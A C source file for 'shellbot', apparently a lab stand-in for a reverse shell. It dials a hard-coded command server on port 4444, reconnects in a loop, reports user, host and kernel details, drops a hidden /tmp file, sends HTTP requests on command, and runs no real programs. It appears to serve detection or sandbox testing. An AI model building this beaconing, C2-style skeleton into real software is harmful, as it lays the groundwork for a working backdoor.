/*
 * shellbot: a harmless stand-in for a reverse shell: it dials out, prompts
 * with "$ " and answers a handful of words by itself. It starts no program:
 * what it doesn't know is "not found".
 *
 *   id  uname [-a]  pwd  hostname  echo words     answer
 *   cat /proc/version                             answers (no other file)
 *   touch                                         writes /tmp/.shellbot
 *   wget ip path                                  one HTTP GET
 *   sleep n                                       at most 3 seconds
 *   exit                                          hangs up and comes back
 *   abort                                         dies of SIGSEGV
 *
 * With an argument it shows no prompt, like a shell without a terminal.
 */
#include <sys/socket.h>
#include <sys/utsname.h>

#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "actions.h"
#include "common.h"

#define SERVER_NAME "shell.shellbot.example"
#define SERVER_FALLBACK "198.18.13.41"
#define SERVER_PORT 4444
#define LINE_SIZE 512
#define WORDS_MAX 8
#define IDLE_SECONDS 180
#define DROP_PATH "/tmp/.shellbot"

static int serverSocket = -1;
static int silent;

__attribute__((format(printf, 1, 2))) static void
say(const char *format, ...)
{
	char text[LINE_SIZE];
	va_list ap;

	va_start(ap, format);
	int n = vsnprintf(text, sizeof text, format, ap);
	va_end(ap);
	if (n > (int)sizeof text - 1)
		n = sizeof text - 1;
	sendAll(serverSocket, text, (size_t)n);
}

NOINLINE int
recvLine(int fd, char *buf, int size)
{
	int n = 0;
	char c = 0;

	while (c != '\n') {
		if (!waitReadable(fd, IDLE_SECONDS) || recv(fd, &c, 1, 0) != 1)
			return -1;
		if (c != '\n' && c != '\r' && n < size - 1)
			buf[n++] = c;
	}
	buf[n] = '\0';
	return n;
}

static void
sayVersion(void)
{
	char text[LINE_SIZE];
	int fd = open("/proc/version", O_RDONLY);
	ssize_t n = fd == -1 ? -1 : read(fd, text, sizeof text - 1);

	if (fd != -1)
		close(fd);
	if (n > 0)
		sendAll(serverSocket, text, (size_t)n);
}

/* Answers one line; -1 when the connection should end. */
NOINLINE int
processCmd(int argc, char *argv[])
{
	struct utsname u;
	struct in_addr ip;

	uname(&u);
	if (strcmp(argv[0], "id") == 0) {
		say("uid=%d gid=%d\n", (int)getuid(), (int)getgid());
	} else if (strcmp(argv[0], "uname") == 0) {
		if (argc > 1)
			say("%s %s %s %s\n", u.sysname, u.nodename, u.release,
			    u.machine);
		else
			say("%s\n", u.sysname);
	} else if (strcmp(argv[0], "hostname") == 0) {
		say("%s\n", u.nodename);
	} else if (strcmp(argv[0], "pwd") == 0) {
		say("/\n");
	} else if (strcmp(argv[0], "echo") == 0) {
		for (int i = 1; i < argc; i++)
			say("%s%s", argv[i], i + 1 < argc ? " " : "");
		say("\n");
	} else if (strcmp(argv[0], "cat") == 0 && argc > 1 &&
	    strcmp(argv[1], "/proc/version") == 0) {
		sayVersion();
	} else if (strcmp(argv[0], "touch") == 0) {
		dropFile(DROP_PATH);
	} else if (strcmp(argv[0], "wget") == 0 && argc > 2 &&
	    labTarget(argv[1], &ip) == 0) {
		sendHttp(ip, argv[2]);
	} else if (strcmp(argv[0], "sleep") == 0 && argc > 1) {
		sleep((unsigned)labCount(argv[1], 3));
	} else if (strcmp(argv[0], "exit") == 0) {
		return -1;
	} else if (strcmp(argv[0], "abort") == 0) {
		crash();
	} else
		say("sh: %s: not found\n", argv[0]);
	return 0;
}

NOINLINE int
initConnection(void)
{
	hangUp(&serverSocket);
	serverSocket = connectServer(SERVER_NAME, SERVER_FALLBACK, SERVER_PORT);
	return serverSocket == -1 ? -1 : 0;
}

static void
serve(void)
{
	char line[LINE_SIZE], *argv[WORDS_MAX];

	for (;;) {
		if (!silent)
			say("$ ");
		if (recvLine(serverSocket, line, sizeof line) == -1)
			return;
		int argc = splitWords(line, argv, WORDS_MAX);
		if (argc > 0 && processCmd(argc, argv) == -1)
			return;
	}
}

static void
bot(void)
{
	for (;;) {
		int up = initConnection() == 0;
		if (up)
			serve();
		hangUp(&serverSocket);
		sleep(up ? 1 : 5);
	}
}

int
main(int argc, char *argv[] __attribute__((unused)))
{
	labGuard("shellbot");
	silent = argc > 1;
	keep(bot);
}
